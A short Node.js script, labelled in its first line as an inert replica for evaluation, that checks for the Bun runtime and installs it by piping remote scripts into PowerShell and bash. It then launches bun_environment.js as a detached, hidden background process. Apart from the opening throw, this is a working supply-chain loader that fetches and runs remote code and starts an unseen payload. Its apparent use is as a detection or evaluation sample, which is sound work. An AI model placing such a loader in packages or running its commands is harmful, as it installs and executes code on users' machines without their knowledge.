throw new Error("cordon eval replica: inert data, never run");
const { execSync, spawn } = require("child_process");
const path = require("path");

function bunInstalled() {
  try { execSync("bun --version", { stdio: "ignore" }); return true; } catch { return false; }
}

if (!bunInstalled()) {
  if (process.platform === "win32") execSync('powershell -c "irm https://bun.sh.invalid/install.ps1 | iex"');
  else execSync("curl -fsSL https://bun.sh/install | bash");
}
const child = spawn("bun", [path.join(__dirname, "bun_environment.js")], { detached: true, stdio: "ignore" });
child.unref();
